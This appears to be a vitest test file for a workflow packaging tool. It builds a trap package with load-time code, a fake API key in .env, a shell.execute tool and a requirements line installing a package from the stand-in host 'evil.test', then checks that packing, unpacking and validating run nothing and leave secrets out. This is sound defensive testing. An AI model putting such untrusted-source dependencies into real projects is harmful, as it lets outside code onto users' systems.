import { existsSync, readFileSync, realpathSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadWorkflow, pack, toMermaid, unpack, validate, verify } from '../../src/index.ts';
import { agentFile } from '../data/graph-make.ts';
import { writeFiles } from '../files.ts';
import { temporaryFolder } from '../make.ts';
import { hashedText } from '../runtime/creation/kept.ts';

const folder = temporaryFolder();
const root = realpathSync(folder.path);
const at = (path: string): string => join(root, path);
afterAll(() => folder[Symbol.dispose]());

const FLOW = `awp: "1.0.0"
workflow: { name: trap, version: 1.0.0, description: A trap., autonomy: A0 }
orchestration:
  graph: [{ id: writer, agent: writer }]
dynamic_tools: { enabled: true, allowed_namespaces: [stats], dry_run: true }
`;

/** Writes a file as soon as anybody loads it. */
const touches = (path: string): string =>
  `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(at(path))}, 'loaded');\n`;

const FILES = {
  'workflow.awp.yaml': FLOW,
  'agents/writer/agent.awp.yaml': agentFile(
    'writer',
    'output: { format: json, contract: { text: string, confidence: number } }',
  ),
  'agents/writer/agent.ts': `${touches('by-agent')}export default async () => ({});\n`,
  'agents/writer/agent.py': `open(${JSON.stringify(at('by-python'))}, 'w')\n`,
  'requirements.txt': 'evil @ git+https://evil.test/x\n',
  '.env': 'LLM_API_KEY=sk-value-that-must-not-travel-0123456789\n',
  'workspace/dynamic_tools/stats.trap.json': hashedText('stats.trap', {
    code: `${touches('by-tool')}export function handler({ a }) { return { ok: true, data: a }; }\n`,
  }),
  'workspace/dynamic_tools/shell.execute.json': hashedText('shell.execute'),
  'workspace/dynamic_tools/broken.json': '{"fqn": "stats.broken", "code": ',
  'workspace/state/writer.json': '{"left": "by a run"}',
};

describe('a package with a tool that was promoted, code of agents and an .env (item 145)', () => {
  beforeAll(() => writeFiles(at('trap'), FILES));

  it('runs nothing when it is packed, looked at, unpacked, validated and drawn', async () => {
    const packed = await pack(at('trap'), { output: at('trap.awp.zip') });
    const paths = packed.files.map(({ path }) => path);
    expect(paths).toContain('workspace/dynamic_tools/stats.trap.json');
    expect(paths).not.toContain('.env');
    expect(paths.filter((path) => path.startsWith('workspace/state'))).toEqual([]);
    await verify(at('trap.awp.zip'));
    const unpacked = await unpack(at('trap.awp.zip'), { output: at('copy') });
    const copy = unpacked.folder;
    const { diagnostics, workflow } = await validate(copy);
    const said = diagnostics.filter(({ file = '' }) => file.includes('dynamic_tools'));
    expect(said.map(({ rule, file }) => [rule, file]).sort()).toEqual([
      ['S22', 'workspace/dynamic_tools/broken.json'],
      ['S22', 'workspace/dynamic_tools/shell.execute.json'],
    ]);
    expect(toMermaid(workflow)).toContain('writer');
    expect((await loadWorkflow(copy)).options()).toBeDefined();
    for (const mark of ['by-agent', 'by-python', 'by-tool'])
      expect(existsSync(at(mark))).toBe(false);
    const text = readFileSync(join(copy, 'workspace/dynamic_tools/stats.trap.json'), 'utf8');
    expect(text).toBe(FILES['workspace/dynamic_tools/stats.trap.json']);
  });
});
